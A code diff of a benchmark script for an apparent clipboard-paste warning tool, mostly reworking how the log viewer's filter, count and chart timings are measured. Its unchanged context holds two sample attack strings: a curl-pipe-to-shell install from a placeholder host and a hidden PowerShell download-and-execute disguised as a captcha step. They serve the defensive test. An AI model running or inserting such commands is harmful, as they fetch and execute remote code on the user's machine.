@@ -45,6 +45,7 @@ SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install-{n}.sh | sh"
 MALICIOUS = (
     'powershell -w h -c "iwr https://x.example/a.ps1 | iex"' + " " * 60 + "# I am not a robot"
 )
+COUNTING = "Counting…"  # the viewer's count label until the count comes back
 VK_LCONTROL, VK_V = 0xA2, 0x56  # left Ctrl as a low-level hook reports it; V
 
 
@@ -235,7 +236,7 @@ def _viewer(folder: Path) -> tuple[list[list[object]], list[str]]:
     store = EventStore.open(folder, verify=False)  # as `pasteguard viewer` opens it
     window = ViewerWindow(store, allow_delete=True)
     window.show()
-    _pump_until(lambda: "events match" in window.count_label.text())
+    _pump_until(lambda: not window.stats_pending, timeout=60)
     window.repaint()
     shown = time.perf_counter()
     total = store.count()
@@ -262,20 +263,27 @@ def _viewer(folder: Path) -> tuple[list[list[object]], list[str]]:
     worst_table = worst_all = 0.0
     for name, change in cases:
         start = time.perf_counter()
-        change()  # the table is refilled at once; the count and chart wait for the next turn
+        change()  # the table is refilled at once; the count and chart come from their thread
         window.table.viewport().repaint()
         painted = time.perf_counter()
-        window._stats.stop()
-        window.update_stats()
-        qt.processEvents()
+        _pump_until(lambda: window.count_label.text() != COUNTING, timeout=60)
+        window.count_label.repaint()
+        counted = time.perf_counter()
+        _pump_until(lambda: not window.stats_pending, timeout=60)
+        window.chart.repaint()
         done = time.perf_counter()
         worst_table = max(worst_table, painted - start)
         worst_all = max(worst_all, done - start)
-        shown_ms, all_ms = (painted - start) * 1000, (done - start) * 1000
+        table_ms, count_ms, all_ms = (
+            (painted - start) * 1000,
+            (counted - start) * 1000,
+            (done - start) * 1000,
+        )
+        shown_count = window.count_label.text().replace(" events match", "")
         rows.append(
             [
-                f"filter: {name} ({window.model.rowCount()} shown)",
-                f"{all_ms:.0f} ms (table alone {shown_ms:.0f} ms)",
+                f"filter: {name} ({window.model.rowCount()} shown, {shown_count} counted)",
+                f"{all_ms:.0f} ms (table {table_ms:.0f} ms, count {count_ms:.0f} ms)",
                 f"≤ {FILTER_TARGET_MS:.0f} ms",
                 met(all_ms <= FILTER_TARGET_MS),
             ]
@@ -302,12 +310,16 @@ def _viewer(folder: Path) -> tuple[list[list[object]], list[str]]:
         f"A store of {total:,} events over a year (the event-store benchmark's fill, shifted to "
         f"end now), opened as `pasteguard viewer` opens it; building it took "
         f"{opened - begin:.1f} s and is not counted. Offscreen Qt platform, window 1180×760.",
-        "A filter refills the table with its first page at once; the count and the chart of the "
-        "last 90 days by level follow right after the table is painted (so they never delay "
-        "it). A person waits for all three, so a filter is judged on the time until the count "
-        "and the chart are drawn too; the table alone is in brackets. Free-text search goes "
-        "through the store's trigram index (see the event-store section); typing waits 300 ms "
-        "first, which is not counted.",
+        "A filter refills the table with its first page at once; the count and the chart (bars "
+        "that fit the filter's range: weeks for all time) are read on the viewer's stats "
+        "thread and drawn when they come back, so they never delay the table. A person waits "
+        "for all three, so a filter is judged on the time until the chart is drawn; in "
+        "brackets when the table and the count were shown. Without a free-text search the "
+        "count and chart come from the store's summary tables (events per day and hour). A "
+        'free-text search is counted up to 10,000 ("More than 10,000 events match"); its '
+        "chart counts every match, in one pass over them. Free-text search goes through the "
+        "store's trigram index (see the event-store section); typing waits 300 ms first, which "
+        "is not counted.",
         f"Worst filter: table {_ms(worst_table)}, with count and chart {_ms(worst_all)}.",
     ]
     return rows, notes
@@ -325,14 +337,29 @@ def _set(filters: Any, period: float | None = None, text: str = "") -> None:
     filters.changed.emit()
 
 
+def run_viewer() -> list[Result]:
+    """The log viewer alone (`python -m bench ui.viewer`)."""
+    with tempfile.TemporaryDirectory(prefix="pasteguard-bench-ui-") as tmp:
+        root = Path(tmp)
+        with _profile(root):
+            viewer_rows, viewer_notes = _viewer(root / "viewer")
+    return [
+        Result(
+            f"Desktop UI: the log viewer over {EVENTS:,} events",
+            table(["measurement", "value", "target", "met?"], viewer_rows, "lllc"),
+            viewer_notes,
+        )
+    ]
+
+
 def run() -> list[Result]:
+    """The warning, on a real X desktop and in-process."""
     with tempfile.TemporaryDirectory(prefix="pasteguard-bench-ui-") as tmp:
         root = Path(tmp)
         (root / "x").mkdir()
         on_x = _warning_on_x(root / "x")
         with _profile(root):
             local = _warning_local(root)
-            viewer_rows, viewer_notes = _viewer(root / "viewer")
     x_p95, local_p95 = _p95(on_x), _p95(local)
     warning_rows = [
         [
@@ -366,14 +393,9 @@ def run() -> list[Result]:
                 "window only when first shown).",
             ],
         ),
-        Result(
-            f"Desktop UI: the log viewer over {EVENTS:,} events",
-            table(headers, viewer_rows, "lllc"),
-            viewer_notes,
-        ),
     ]
 
 
 if __name__ == "__main__":  # pragma: no cover
-    for result in run():
+    for result in [*run(), *run_viewer()]:
         print(result.markdown())
